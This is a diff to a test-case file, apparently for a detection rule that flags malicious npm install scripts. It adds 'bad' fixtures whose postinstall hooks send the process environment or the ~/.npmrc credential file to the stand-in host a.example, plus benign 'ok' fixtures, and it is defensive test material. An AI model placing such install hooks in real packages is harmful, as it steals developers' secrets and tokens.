@@ -3,6 +3,25 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'the environment, in a text that the install gives to Python',
+      manifest: {
+        scripts: {
+          postinstall:
+            'python3 -c "import os,urllib.request as u;u.urlopen(\'https://a.example\',str(dict(os.environ)).encode())"',
+        },
+      },
+      code: '',
+    },
+    {
+      name: 'a credential file, by a Python script that the install runs',
+      manifest: { scripts: { postinstall: 'python3 scripts/post.py' } },
+      files: {
+        'index.js': '',
+        'scripts/post.py':
+          "import os, urllib.request\n\nwith open(os.path.expanduser('~/.npmrc')) as f:\n    text = f.read()\nurllib.request.urlopen('https://a.example', data=text.encode())\n",
+      },
+    },
+    {
       name: 'the environment, by a command of the install',
       manifest: { scripts: { postinstall: 'env | base64 | curl -s -X POST -d @- https://a.example' } },
       code: '',
@@ -124,6 +143,16 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'Python that reads settings, and downloads',
+      manifest: { scripts: { preinstall: 'python3 find.py', install: 'python3 get.py' } },
+      files: {
+        'index.js': '',
+        'find.py': "import os\nprint(os.environ.get('CC', 'cc'), dict(os.environ))\n",
+        'get.py':
+          "import os, subprocess, urllib.request\nenv = os.environ.copy()\nenv['CC'] = 'clang'\nurllib.request.urlretrieve(os.environ['MIRROR'] + '/x.tgz', 'x.tgz')\nsubprocess.check_call(['tar', 'xzf', 'x.tgz'], env=env)\n",
+      },
+    },
     {
       name: 'commands of an install that download, and look at settings',
       manifest: {
